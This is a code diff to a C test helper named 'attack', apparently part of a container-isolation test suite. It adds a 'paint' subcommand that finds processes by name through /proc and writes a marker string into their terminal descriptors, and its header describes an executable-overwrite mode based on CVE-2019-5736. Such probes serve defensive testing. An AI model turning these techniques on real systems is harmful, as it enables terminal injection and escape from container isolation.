@@ -5,6 +5,9 @@
  *       holds the process's executable, waits until the process has ended, since a running one is not
  *       written to, and overwrites it through what is held: CVE-2019-5736. Prints `holding`, then
  *       `done` or the error's name.
+ *   attack paint NAME
+ *       writes PAINTED into every terminal that a process of that name has as a descriptor. Prints
+ *       `done`, or `no terminal` if it has none.
  *   attack watch MILLISECONDS SECRET
  *       prints `watching`; then every process that appears in /proc and is neither init nor its own,
  *       a line for each thing that it is seen to be: its name, its capabilities, whether its memory
@@ -46,6 +49,47 @@ static int overwrite(const char *pid)
 		return 1;
 	}
 	puts("done");
+	return 0;
+}
+
+static int paint_those_of(const char *pid)
+{
+	int painted = 0;
+
+	for (int fd = 0; fd <= 2; fd++) {
+		char path[300];
+		int opened;
+
+		snprintf(path, sizeof(path), "/proc/%s/fd/%d", pid, fd);
+		opened = open(path, O_WRONLY | O_NOCTTY | O_NONBLOCK | O_CLOEXEC);
+		if (opened < 0)
+			continue;
+		if (isatty(opened))
+			painted |= write(opened, "PAINTED", 7) == 7;
+		close(opened);
+	}
+	return painted;
+}
+
+static int paint(const char *name)
+{
+	DIR *all = opendir("/proc");
+	struct dirent *entry;
+	int painted = 0;
+
+	while (all && (entry = readdir(all))) {
+		char path[300], seen_name[64] = "";
+		FILE *comm;
+
+		snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
+		comm = fopen(path, "r");
+		if (!comm)
+			continue;
+		if (fscanf(comm, "%63s", seen_name) == 1 && strcmp(seen_name, name) == 0)
+			painted |= paint_those_of(entry->d_name);
+		fclose(comm);
+	}
+	puts(painted ? "done" : "no terminal");
 	return 0;
 }
 
@@ -177,6 +221,8 @@ int main(int argc, char **argv)
 {
 	if (argc == 3 && strcmp(argv[1], "overwrite") == 0)
 		return overwrite(argv[2]);
+	if (argc == 3 && strcmp(argv[1], "paint") == 0)
+		return paint(argv[2]);
 	if (argc == 4 && strcmp(argv[1], "watch") == 0)
 		return watch(atol(argv[2]), argv[3]);
 	fputs("attack: that means nothing\n", stderr);
